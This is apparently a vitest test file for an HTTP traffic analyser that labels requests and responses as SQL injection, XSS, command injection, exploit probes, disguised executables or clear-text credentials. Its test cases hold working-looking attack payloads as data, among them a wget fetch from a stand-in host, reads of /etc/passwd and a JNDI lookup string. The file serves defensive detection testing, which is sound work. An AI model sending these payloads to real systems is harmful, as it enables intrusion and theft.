import { describe, expect, test } from 'vitest'
import http from './http.ts'
import { fromClient, fromServer, latin1, show } from './testing.ts'

const get = (target: string, headers = '') =>
  fromClient(latin1(`GET ${target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x/1.0\r\n${headers}\r\n`))
const risksOf = (...packets: Parameters<typeof show>[1]) => Object.keys(show(http, packets).risks)

test.each([
  ['/?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23', 'SQL Injection'],
  ["/?id=1'/**/or/**/'1'='1", undefined],
  ["/?name=x'%20or%20'1'%3D'1", 'SQL Injection'],
  ['/?id=1%20AND%20SLEEP(5)', 'SQL Injection'],
  ['/?id=1;DROP%20TABLE%20users', 'SQL Injection'],
  ['/?q=%253Cscript%253Ealert(1)%253C/script%253E', 'XSS Attack'],
  ['/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'XSS Attack'],
  ['/cgi-bin/ping?host=127.0.0.1;cat%20/etc/hosts', 'RCE Injection'],
  ['/?cmd=|wget%20http://198.51.100.1/x.sh', 'RCE Injection'],
  ['/admin/system.php3?cmd=cat%20/etc/passwd', 'RCE Injection'],
  ['/ans.pl?p=../../../../../usr/bin/id|&x', 'RCE Injection'],
  ['/index.php?-d+allow_url_include%3d1', 'RCE Injection'],
  ['/?x=$%7Bjndi:ldap://198.51.100.1/a%7D', 'Possible Exploit Attempt'],
  ['/.env', 'Possible Exploit Attempt'],
  ['/app/.git/config', 'Possible Exploit Attempt'],
  ['/../../etc/hosts', 'Possible Exploit Attempt'],
  ['/.0x', 'Possible Exploit Attempt'],
  ['/html/.php?a=1', undefined],
  ['/read?type=/var/log', undefined],
  ['/.well-known/acme-challenge/abc', undefined],
  ['/search?q=the+european+union+select+committee', undefined],
  ['/search?q=rock+%27n%27+roll+and+blues', undefined],
  ['/search?q=select+a+colour+from+the+list', undefined],
  ['/search?q=this+or+that;+cats+and+dogs', undefined],
  ['/a/b.html?script=1&on=2#x', undefined],
  ['/list?a=1&b=2&id=3&ls=4&cat=5', undefined],
  ['/list?a=1&cat=5;type=6', undefined],
])('%s: %s', (target, risk) => {
  expect(risksOf(get(target))).toEqual(risk === undefined ? [] : [risk])
})

test('a form is looked at too, in the segment of its head or after it', () => {
  const head = 'POST /login HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x/1.0\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n'
  const body = "user=admin'+or+'1'%3D'1&password=x"
  expect(risksOf(fromClient(latin1(head + body)))).toEqual(['SQL Injection'])
  expect(risksOf(fromClient(latin1(head)), fromClient(latin1(body)))).toEqual(['SQL Injection'])
  expect(risksOf(fromClient(latin1(head.replace('x-www-form-urlencoded', 'json') + body)))).toEqual([])
})

test('no text makes it slow: it would not come to an end', () => {
  const hostile = [
    "'".repeat(4000),
    '<a '.repeat(1500),
    `union${' '.repeat(4000)}`,
    `select ${'from '.repeat(800)}`,
    `/${'a/'.repeat(3000)}`,
  ]
  for (const text of hostile) expect(risksOf(get(`/?q=${text.replaceAll(' ', '+')}`)).length).toBeLessThan(2)
})

describe('heads and bodies', () => {
  const answer = (headers: string, body: string) => [get('/'), fromServer(latin1(`HTTP/1.1 200 OK\r\n${headers}\r\n\r\n${body}`))] as const
  const pe = `MZ${'\0'.repeat(58)}\x80\0\0\0${'\0'.repeat(64)}PE\0\0`
  test.each([
    ['a program that says it is a picture', 'Content-Type: image/png', pe, ['Binary App Transfer']],
    ['a program that says so', 'Content-Type: application/x-msdownload', 'x', ['Binary App Transfer']],
    ['a file', 'Content-Disposition: attachment; filename="invoice.zip"', 'x', ['Binary File/Data Transfer (Attempt)']],
    ['bytes of any kind', 'Content-Type: application/octet-stream', 'x', ['Binary File/Data Transfer (Attempt)']],
    [
      'bytes that are said to be text',
      'Content-Type: text/html',
      '\x01\x02\x03\x04\x05\xf0\x11\x12\x13\xff\x00\x00\x01\x02\x03\x04',
      ['HTTP Susp Content'],
    ],
    [
      'packed text',
      'Content-Encoding: br\r\nContent-Type: text/html',
      '\x01\x02\x03\x04\x05\xf0\x11\x12\x13\xff\x00\x00\x01\x02\x03\x04',
      [],
    ],
    ['text', 'Content-Type: text/html; charset=utf-8', '<html>Gr\xc3\xbc\xc3\x9fe</html>', []],
    ['a picture', 'Content-Type: image/png', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR', []],
    ['a page to be saved', 'Content-Disposition: attachment; filename="report.csv"', 'a,b', []],
  ] as const)('%s', (_, headers, body, risks) => {
    expect(risksOf(...answer(headers, body))).toEqual(risks)
  })

  test('only the beginning of a body tells what it is', () => {
    const inside = fromServer(latin1(pe))
    expect(risksOf(...answer('Content-Type: image/png', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR'), inside)).toEqual([])
  })

  test.each([
    ['Authorization: Basic dXNlcjpwYXNz\r\n', ['Clear-Text Credentials']],
    ['Proxy-Authorization: basic dXNlcjpwYXNz\r\n', ['Clear-Text Credentials']],
    ['Authorization: Bearer abc\r\n', []],
    [`User-Agent: \${jndi:ldap://198.51.100.1/a}\r\n`, ['Possible Exploit Attempt']],
  ] as const)('%s', (headers, risks) => {
    expect(risksOf(get('/', headers))).toEqual(risks)
  })
  test('the password is not kept as evidence', () => {
    expect(show(http, [get('/', 'Authorization: Basic dXNlcjpwYXNz\r\n')]).risks).toEqual({
      'Clear-Text Credentials': 'basic authentication',
    })
  })

  test('a host that is none', () => {
    const host = (text: string) => fromClient(latin1(`GET / HTTP/1.1\r\nHost: ${text}\r\n\r\n`))
    expect(risksOf(host('a b<x>'))).toEqual(['Non-Printable/Invalid Chars Detected'])
    expect(risksOf(host('%s%n'))).toEqual(['Non-Printable/Invalid Chars Detected', 'Possible Exploit Attempt'])
    expect(risksOf(host('[2001:db8::1]:8080'))).toEqual([])
  })
})

test('what was found in a target is found in it again, also after thousands of others', () => {
  const target = '/?id=1;DROP%20TABLE%20users'
  for (let round = 0; round < 2; round++) {
    for (let n = 0; n < 2; n++) expect(risksOf(get(target))).toEqual(['SQL Injection'])
    for (let n = 0; n < 2500; n++) expect(risksOf(get(`/?page=${round}&item=${n}`))).toEqual([])
  }
})
